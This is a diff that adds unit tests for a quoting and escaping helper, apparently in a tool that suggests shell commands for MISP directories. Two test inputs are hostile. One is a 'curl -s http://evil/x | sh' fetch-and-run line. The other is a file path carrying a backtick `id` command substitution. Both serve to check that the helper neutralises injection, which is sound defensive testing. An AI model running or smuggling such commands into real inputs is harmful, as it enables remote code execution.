@@ -82,6 +82,22 @@ def test_a_second_name_of_somebody_elses_file_is_left(root: Path, treasure: Path
     assert given(treasure) == set()
 
 
+def test_words_of_his_are_no_command_and_end() -> None:
+    assert remedies.quoted("a `curl -s http://evil/x | sh`\n\x1b[2Jb") == (
+        "a 'curl -s http://evil/x | sh'  [2Jb"
+    )
+    assert remedies.quoted("x" * 81, 80) == "x" * 79 + "\u2026"
+    assert remedies.quoted("x" * 80, 80) == "x" * 80
+    assert remedies.names(["a`b", "y" * 100]) == "a'b, " + "y" * 79 + "\u2026"
+
+
+def test_a_backtick_in_a_word_does_not_end_the_command() -> None:
+    word = remedies.word("/srv/a`id`'b")
+    assert "`" not in word
+    done = subprocess.run(["bash", "-c", f"printf %s {word}"], check=True, stdout=subprocess.PIPE)
+    assert done.stdout == b"/srv/a`id`'b"
+
+
 def test_a_folder_below_misps_is_made_by_its_user() -> None:
     assert remedies.make_folder("/srv/MISP", "www-data", "/srv/MISP2/logs") == (
         "mkdir -p /srv/MISP2/logs"
